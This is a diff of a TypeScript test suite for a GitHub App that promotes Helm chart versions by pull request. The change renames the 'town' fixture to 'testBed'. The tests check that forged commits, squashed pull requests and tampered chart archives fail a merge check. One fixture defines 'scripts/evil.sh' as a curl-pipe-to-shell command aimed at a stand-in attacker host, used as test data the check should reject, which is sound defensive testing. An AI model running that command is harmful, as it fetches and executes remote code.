@@ -6,7 +6,7 @@ import { beforeEach, describe, expect, test } from "@jest/globals";
 import type { FilesGiven } from "../../../src/sandbox/github/people/files.ts";
 import type { PersonalPush } from "../../../src/sandbox/github/people/person.ts";
 import { CONFIG_REPOSITORY } from "../../../src/sandbox/town.ts";
-import { checkOn, live, published, town } from "../../stories/setting.ts";
+import { checkOn, live, published, testBed } from "../../stories/setting.ts";
 
 const BRANCH = "promote/dev/xposer";
 const EVIL = { "scripts/evil.sh": "curl https://mallory.example.com | sh\n" };
@@ -23,7 +23,7 @@ function check(number: number): string {
 }
 
 function bot(how: "id" | "another id" | "no id" = "id") {
-  const { id, login } = town.github.world.app.bot;
+  const { id, login } = testBed.github.world.app.bot;
   const prefix = { id: `${id}+`, "another id": `${id + 1}+`, "no id": "" }[how];
   return { name: login, email: `${prefix}${login}@users.noreply.github.com` };
 }
@@ -47,15 +47,15 @@ test.each<[string, () => Forged]>([
   ],
 ])("a commit %s is a person's", async (_what, forged) => {
   const { message = TRAILERS, ...how } = forged();
-  town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL, message, ...how });
-  await town.waitUntilIdle();
+  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL, message, ...how });
+  await testBed.waitUntilIdle();
   expect(check(1)).toMatch(/^failure: It changes files that no promotion changes: scripts\/evil\.sh/);
-  town.alice.close(CONFIG_REPOSITORY, 1);
-  await town.waitUntilIdle();
-  town.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
-  await town.restartWithoutDatabase();
+  testBed.alice.close(CONFIG_REPOSITORY, 1);
+  await testBed.waitUntilIdle();
+  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
+  await testBed.restartWithoutDatabase();
   await published("1.0.2");
-  expect(town.pulls()).toContain("#2 open Promote xposer to 1.0.2 in dev");
+  expect(testBed.pulls()).toContain("#2 open Promote xposer to 1.0.2 in dev");
 });
 
 /** Squashes the App's open pull request onto a branch of one's own: GitHub signs the commit for the App. */
@@ -64,53 +64,53 @@ function squashedFor(
   files: FilesGiven,
   message?: { headline: string; message: string },
 ): string {
-  town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files });
-  town.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: town.repository().branch("main") ?? "" });
-  town.alice.editPullRequest(CONFIG_REPOSITORY, number, { base: "x" });
-  return town.alice.merge(CONFIG_REPOSITORY, number, { method: "squash", ...message });
+  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files });
+  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: testBed.repository().branch("main") ?? "" });
+  testBed.alice.editPullRequest(CONFIG_REPOSITORY, number, { base: "x" });
+  return testBed.alice.merge(CONFIG_REPOSITORY, number, { method: "squash", ...message });
 }
 
 /** The next promotion's branch is set to what GitHub signed for the App. */
 async function replaced(version: string, squashed: string): Promise<void> {
-  await town.waitUntilIdle();
-  town.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
+  await testBed.waitUntilIdle();
+  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
   await published(version);
-  town.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
-  await town.waitUntilIdle();
+  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
+  await testBed.waitUntilIdle();
 }
 
 const SAYS = { headline: "Promote xposer to 99.0.0 in dev", message: TRAILERS.split("\n\n")[1] ?? "" };
 
 test("trailers in a squash of the App's pull request decline nothing, also after a lost database", async () => {
   await replaced("1.0.2", squashedFor(1, {}, SAYS));
-  town.alice.close(CONFIG_REPOSITORY, 3);
-  await town.waitUntilIdle();
-  town.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
-  await town.restartWithoutDatabase();
+  testBed.alice.close(CONFIG_REPOSITORY, 3);
+  await testBed.waitUntilIdle();
+  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
+  await testBed.restartWithoutDatabase();
   await published("1.0.3");
-  expect(town.pulls()).toContain("#4 open Promote xposer to 1.0.3 in dev");
+  expect(testBed.pulls()).toContain("#4 open Promote xposer to 1.0.3 in dev");
 });
 
 test("a rollback that only a squash's message tells of is none: the promotion is put back", async () => {
-  town.alice.merge(CONFIG_REPOSITORY, 1);
+  testBed.alice.merge(CONFIG_REPOSITORY, 1);
   await published("1.0.2");
-  await town.museum.upload(town.pack("0.9.0"));
-  const back = (town.fileOn("main", "dev/requirements.yaml") ?? "").replace("1.0.1", "0.9.0");
+  await testBed.museum.upload(testBed.pack("0.9.0"));
+  const back = (testBed.fileOn("main", "dev/requirements.yaml") ?? "").replace("1.0.1", "0.9.0");
   const trailers = "Chart: xposer\nChart-Version: 0.9.0\nRolled-Back-From: 1.0.1";
   const said = { headline: "Roll xposer back to 0.9.0 in dev", message: trailers };
   const squashed = squashedFor(2, { "dev/requirements.yaml": back }, said);
   await replaced("1.0.3", squashed);
-  expect(town.fileOn(BRANCH, "dev/requirements.yaml")).toContain("1.0.3");
-  expect(town.repository().branch(BRANCH)).not.toBe(squashed);
-  const runs = [...town.repository().checkRuns.values()].filter(({ headOid }) => headOid === squashed);
+  expect(testBed.fileOn(BRANCH, "dev/requirements.yaml")).toContain("1.0.3");
+  expect(testBed.repository().branch(BRANCH)).not.toBe(squashed);
+  const runs = [...testBed.repository().checkRuns.values()].filter(({ headOid }) => headOid === squashed);
   expect(runs.filter(({ conclusion }) => conclusion === "success")).toEqual([]);
 });
 
 describe("where archives are committed", () => {
   beforeEach(async () => {
-    town.alice.merge(CONFIG_REPOSITORY, 1);
+    testBed.alice.merge(CONFIG_REPOSITORY, 1);
     const old = await packed("1.0.1");
-    town.alice.push(CONFIG_REPOSITORY, { branch: "main", files: { "dev/charts/xposer-1.0.1.tgz": old } });
+    testBed.alice.push(CONFIG_REPOSITORY, { branch: "main", files: { "dev/charts/xposer-1.0.1.tgz": old } });
     await published("1.0.2");
   });
 
@@ -120,14 +120,14 @@ describe("where archives are committed", () => {
 
   test("another one in a squash of the App's pull request fails the check", async () => {
     const evil = { "dev/charts/xposer-1.0.3.tgz": "evil", "dev/charts/xposer-1.0.2.tgz": null };
-    const text = (town.fileOn(BRANCH, "dev/requirements.yaml") ?? "").replace("1.0.2", "1.0.3");
+    const text = (testBed.fileOn(BRANCH, "dev/requirements.yaml") ?? "").replace("1.0.2", "1.0.3");
     await replaced("1.0.3", squashedFor(2, { ...evil, "dev/requirements.yaml": text }));
     expect(check(4)).toMatch(
       /^failure: It changes files that no promotion changes: dev\/charts\/xposer-1\.0\.3\.tgz/,
     );
     expect(summary(4)).toContain("holds other bytes than the chart repository");
-    town.alice.comment(CONFIG_REPOSITORY, 4, "/allow");
-    await town.waitUntilIdle();
+    testBed.alice.comment(CONFIG_REPOSITORY, 4, "/allow");
+    await testBed.waitUntilIdle();
     expect(check(4)).toMatch(/^success/);
   });
 
@@ -175,34 +175,34 @@ describe("where archives are committed", () => {
       /puts symbolic links in the place of what is judged, or submodules, .*: dev\/charts\./,
     ],
   ])("%s, in a pull request of a person's, fails the check", async (_what, files, said) => {
-    town.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "main", files });
-    const number = town.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
-    await town.waitUntilIdle();
+    testBed.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "main", files });
+    const number = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
+    await testBed.waitUntilIdle();
     expect(check(number)).toMatch(/^failure: /);
     expect(check(number) + summary(number)).toMatch(said);
-    town.alice.comment(CONFIG_REPOSITORY, number, "/allow");
-    await town.waitUntilIdle();
+    testBed.alice.comment(CONFIG_REPOSITORY, number, "/allow");
+    await testBed.waitUntilIdle();
     expect(check(number)).not.toMatch(/^failure/);
     expect(summary(number)).toContain("Allowed by alice for this commit");
   });
 
   test("the very bytes of the chart repository are nobody's doing", async () => {
-    const text = (town.fileOn("main", "dev/requirements.yaml") ?? "").replace("1.0.1", "1.0.2");
+    const text = (testBed.fileOn("main", "dev/requirements.yaml") ?? "").replace("1.0.1", "1.0.2");
     const files = {
       "dev/requirements.yaml": text,
       "dev/charts/xposer-1.0.1.tgz": null,
       "dev/charts/xposer-1.0.2.tgz": await packed("1.0.2"),
     };
-    town.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "main", files });
-    const number = town.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
-    await town.waitUntilIdle();
+    testBed.alice.push(CONFIG_REPOSITORY, { branch: "own", on: "main", files });
+    const number = testBed.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
+    await testBed.waitUntilIdle();
     expect(check(number)).toBe("success: Good to merge: xposer 1.0.2 in dev");
   });
 });
 
 /** As the chart repository serves it. */
 async function packed(version: string): Promise<Uint8Array> {
-  const answer = await fetch(`${town.museum.url}/charts/xposer-${version}.tgz`);
+  const answer = await fetch(`${testBed.museum.url}/charts/xposer-${version}.tgz`);
   return new Uint8Array(await answer.arrayBuffer());
 }
 
@@ -211,15 +211,15 @@ function summary(number: number): string {
 }
 
 test("the App's own pull request, squashed by a person onto another branch, brings nothing past the check", async () => {
-  town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL });
-  town.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: town.repository().branch("main") ?? "" });
-  town.alice.editPullRequest(CONFIG_REPOSITORY, 1, { base: "x" });
-  const squashed = town.alice.merge(CONFIG_REPOSITORY, 1, { method: "squash" });
-  await town.waitUntilIdle();
-  town.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
+  testBed.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL });
+  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: testBed.repository().branch("main") ?? "" });
+  testBed.alice.editPullRequest(CONFIG_REPOSITORY, 1, { base: "x" });
+  const squashed = testBed.alice.merge(CONFIG_REPOSITORY, 1, { method: "squash" });
+  await testBed.waitUntilIdle();
+  testBed.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
   await published("1.0.2");
-  expect(town.pulls()).toContain("#3 open Promote xposer to 1.0.2 in dev");
-  town.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
-  await town.waitUntilIdle();
+  expect(testBed.pulls()).toContain("#3 open Promote xposer to 1.0.2 in dev");
+  testBed.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
+  await testBed.waitUntilIdle();
   expect(check(3)).toMatch(/^failure: It changes files that no promotion changes: .*scripts\/evil\.sh/);
 });
